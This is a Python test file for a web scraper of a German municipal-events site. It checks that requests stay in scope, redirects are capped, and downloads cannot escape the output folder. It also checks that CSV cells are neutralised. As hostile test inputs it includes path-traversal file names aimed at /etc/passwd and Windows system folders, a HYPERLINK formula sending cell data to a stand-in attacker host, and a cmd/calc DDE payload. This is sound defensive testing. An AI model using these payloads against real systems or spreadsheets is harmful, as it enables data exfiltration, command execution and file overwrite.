"""Security: nothing is fetched outside the scope, redirects are capped, nothing is written
outside the output folder, and spreadsheet cells cannot carry formulas.

Hostile pages are planted in the fixture site (links, PDFs, images, pagination and excerpts
pointing at `localhost`, which is this very server under another name, so a request that
left the scope would show in the server log as well as on the client).
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import httpx
import pytest

from k360scrape.demo import demo_start_urls
from k360scrape.errors import ExitCode
from k360scrape.faults import Redirect, Respond
from k360scrape.fixture_server import FixtureServer
from k360scrape.run import RunReport, RunRequest, run_crawl
from k360scrape.settings import Settings

SITE = Path(__file__).resolve().parents[1] / "fixtures" / "site" / "www.kommune360.de"
LIVE_HOSTS = re.compile(r"https?://(?:www\.)?kommune360\.de(?![\w-])")
FREITAG_2 = "/programm/tag/freitag/page/2/"
MITTWOCH = "/programm/tag/mittwoch/"
EXPECTED = Path(__file__).resolve().parents[1] / "fixtures" / "expected" / "site.json"
PDF_BYTES = (SITE / "wp-content/uploads/2022/12/Faktenquiz-Thueringen.pdf").read_bytes()


class RecordingTransport(httpx.BaseTransport):
    """Records every URL the client hands to the network, below httpx's own machinery."""

    def __init__(self) -> None:
        self.inner = httpx.HTTPTransport()
        self.urls: list[str] = []

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        self.urls.append(str(request.url))
        return self.inner.handle_request(request)

    def close(self) -> None:
        self.inner.close()


def _crawl(
    server: FixtureServer, out: Path, *paths: str, **settings: Any
) -> tuple[RunReport, list[str], list[str]]:
    """Crawl with a client whose event hook and transport both record every request."""
    hooked: list[str] = []
    transport = RecordingTransport()
    client = httpx.Client(
        transport=transport,
        event_hooks={"request": [lambda request: hooked.append(str(request.url))]},
    )
    starts = tuple(server.url(p) for p in paths) if paths else demo_start_urls(server.origin)
    request = RunRequest(
        start_urls=starts, out_dir=out, settings=Settings(**{"delay": 0.0, **settings})
    )
    with client:
        report = run_crawl(request, client=client)
    return report, hooked, transport.urls


def _page(server: FixtureServer, path: str) -> str:
    html = (SITE / path.strip("/") / "index.html").read_text(encoding="utf-8")
    return LIVE_HOSTS.sub(server.origin, html)


def _file_block(href: str, name: str) -> str:
    return (
        f'<div class="wp-block-file"><a href="{href}">{name}</a>'
        f'<a href="{href}" class="wp-block-file__button" download>Download</a></div>'
    )


# =========================================================================== scope


def test_no_request_ever_leaves_the_start_hosts(site_server, tmp_path):
    elsewhere = f"http://localhost:{site_server.port}"
    hostile = (
        f'<p><a href="{elsewhere}/programm/event/fremd/">fremd</a> '
        f'<img src="{elsewhere}/wp-content/uploads/fremd.jpg"></p>'
        + _file_block(f"{elsewhere}/wp-content/uploads/2022/12/Faktenquiz-Thueringen.pdf", "F.pdf")
        + _file_block(site_server.url("/wp-content/uploads/umleitung.pdf"), "Umleitung.pdf")
    )
    freitag_2 = _page(site_server, FREITAG_2)
    freitag_2 = freitag_2.replace(
        '<div class="entry-content">', '<div class="entry-content">' + hostile, 1
    )
    # The next page of the last page now lives on another host.
    page_3 = f"{elsewhere}/programm/tag/freitag/page/3/"
    next_link = f'<li class="pagination-next"><a href="{page_3}">Next</a></li>'
    freitag_2 = freitag_2.replace("</ul></div></div>", next_link + "</ul></div></div>", 1)
    site_server.set_page(FREITAG_2, freitag_2)
    # An excerpt entry whose single page lives on another host: kept from its excerpt.
    mittwoch = _page(site_server, MITTWOCH)
    site_server.set_page(
        MITTWOCH,
        mittwoch.replace(
            site_server.origin + "/programm/event/", elsewhere + "/programm/event/", 2
        ),
    )
    # A PDF that redirects off the site.
    site_server.add_fault(
        "/wp-content/uploads/umleitung.pdf", Redirect(f"{elsewhere}/wp-content/uploads/x.pdf")
    )
    report, hooked, sent = _crawl(site_server, tmp_path / "out", download_pdfs=True)

    assert report.exit_code in (ExitCode.OK, ExitCode.PARTIAL)
    assert hooked == sent  # the event hook and the transport saw the same requests
    assert len(sent) == len(site_server.requests) >= 20
    assert all(url.startswith(site_server.origin + "/") for url in sent), sent
    host = site_server.origin.removeprefix("http://")
    assert {record.headers.get("host") for record in site_server.requests} == {host}
    assert not [r.path for r in site_server.requests if "fremd" in r.path]
    warnings = "\n".join(report.warnings)
    assert "outside the crawl scope" in warnings  # the next link and the redirect, named
    posts = json.loads((tmp_path / "out" / "posts.json").read_text(encoding="utf-8"))
    expected = json.loads(EXPECTED.read_text(encoding="utf-8"))
    assert len(posts) == len(expected)  # every post, the one kept from its excerpt included


def test_redirects_are_capped(site_server, tmp_path):
    def onwards(path: str) -> str:
        number = int(path.rstrip("/").rsplit("/", 1)[-1])
        return "{origin}" + f"/kette/{number + 1}/"

    site_server.add_fault(FREITAG_2, Redirect("{origin}/kette/1/"))
    site_server.add_fault("/kette/*", Redirect(onwards))
    report, _, sent = _crawl(
        site_server, tmp_path / "out", "/programm/tag/freitag/", max_redirects=5
    )
    assert report.exit_code is ExitCode.PARTIAL
    assert "too many redirects (more than 5)" in "\n".join(report.warnings)
    chain = [url for url in sent if "/kette/" in url or url.endswith(FREITAG_2)]
    assert len(chain) == 6  # the page and 5 hops, never a 6th
    assert [r.path for r in site_server.requests if r.path.startswith("/kette/")] == [
        f"/kette/{n}/" for n in range(1, 6)
    ]


def test_robots_txt_redirects_are_capped(site_server, tmp_path):
    site_server.add_fault("/robots.txt", Redirect("{origin}/robots/1.txt"))
    site_server.add_fault(
        "/robots/*", Redirect(lambda path: "{origin}" + f"/robots/{int(path[8:-4]) + 1}.txt")
    )
    report, _, _ = _crawl(site_server, tmp_path / "out", "/programm/tag/freitag/")
    assert report.exit_code is ExitCode.NETWORK_UNREACHABLE
    assert "redirected more than 5 times" in "\n".join(report.warnings)
    assert len(site_server.requests) == 6


# =========================================================================== the file system


HOSTILE_NAMES = [
    "../../etc/passwd.pdf",
    "/etc/passwd.pdf",
    "..\\..\\..\\Windows\\evil.pdf",
    "C:\\Windows\\System32\\evil.pdf",
    "a&#0;b.pdf",
    "~/.bashrc.pdf",
    "....//....//up.pdf",
    "CON.pdf",
    "x" * 400 + ".pdf",
    ".",
]


@pytest.fixture
def hostile_pdfs(site_server: FixtureServer) -> FixtureServer:
    blocks = "".join(
        _file_block(site_server.url(f"/wp-content/uploads/evil/{n}.pdf"), name)
        for n, name in enumerate(HOSTILE_NAMES)
    )
    page = _page(site_server, FREITAG_2)
    site_server.set_page(
        FREITAG_2,
        page.replace('<div class="entry-content">', '<div class="entry-content">' + blocks, 1),
    )
    site_server.add_fault(
        "/wp-content/uploads/evil/*", Respond(PDF_BYTES, content_type="application/pdf")
    )
    return site_server


def test_no_file_is_written_outside_the_output_folder(hostile_pdfs, tmp_path):
    parent = tmp_path / "parent"
    out = parent / "out"
    parent.mkdir()
    (parent / "neighbour.txt").write_text("unchanged")
    before = _tree(tmp_path)
    report, _, _ = _crawl(
        hostile_pdfs, out, "/programm/tag/freitag/", download_pdfs=True, pdf_text=True
    )
    assert report.exit_code is ExitCode.OK
    after = _tree(tmp_path)
    outside = {path for path in after if not path.startswith("parent/out/")}
    assert outside == set(before) | {"parent/out"}
    assert all(
        (tmp_path / p).resolve().is_relative_to(out.resolve())
        for p in after
        if p.startswith("parent/out/")
    )
    stored = [p for p in after if p.startswith("parent/out/files/") and (tmp_path / p).is_file()]
    assert all(p.count("/") == 4 for p in stored), stored  # files/<sha>/<one safe name>
    pdfs = _rows(out / "pdfs.csv")
    evil = [row for row in pdfs if "/evil/" in row["url"]]
    assert len(evil) == len(HOSTILE_NAMES)
    for row in evil:
        assert row["path"].startswith("files/"), row
        assert ".." not in row["path"].split("/")
        assert "\\" not in row["path"]
        assert "\x00" not in row["path"]
        assert (out / row["path"]).is_file()


def _tree(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


# =========================================================================== spreadsheets


def test_csv_cells_are_neutralised_against_formula_injection(site_server, tmp_path):
    page = _page(site_server, FREITAG_2)
    formula = '=HYPERLINK("http://evil.example/?d="&amp;A1,"Klick")'
    page = page.replace(
        "Kinderarmut &#8211; &#8222;Präventionsketten&#8220; in Stadt &amp; Land", formula, 1
    )
    page = page.replace(
        '<span class="entry-author-name">Marlous Behrendt</span>',
        '<span class="entry-author-name">@SUMME(1+1)</span>',
        1,
    )
    page = page.replace(
        "<p><strong>Prof. Dr. Johanna Albers-Kempf</strong>",
        "<p>+cmd|' /C calc'!A0 <strong>Prof. Dr. Johanna Albers-Kempf</strong>",
        1,
    )
    page = page.replace(">Übersicht Förderung.pdf</a>", ">-2+3 Übersicht.pdf</a>", 1)
    site_server.set_page(FREITAG_2, page)
    report, _, _ = _crawl(site_server, tmp_path / "out", "/programm/tag/freitag/")
    assert report.exit_code in (ExitCode.OK, ExitCode.PARTIAL)
    out = tmp_path / "out"

    raw = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'
    posts = json.loads((out / "posts.json").read_text(encoding="utf-8"))
    assert any(post["title"] == raw for post in posts)  # JSON keeps the bytes as published
    rows = _rows(out / "posts.csv")
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"] == "'" + raw
    assert row["author"] == "'@SUMME(1+1)"
    bios = [r["bio"] for r in _rows(out / "contributors.csv") if "calc" in r["bio"]]
    assert bios
    assert all(bio.startswith("'+cmd") for bio in bios)
    names = [r["name"] for r in _rows(out / "pdfs.csv") if "2+3" in r["name"]]
    assert names == ["'-2+3 Übersicht.pdf"]
    every_cell = [cell for path in out.glob("*.csv") for r in _rows(path) for cell in r.values()]
    assert not [cell for cell in every_cell if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))
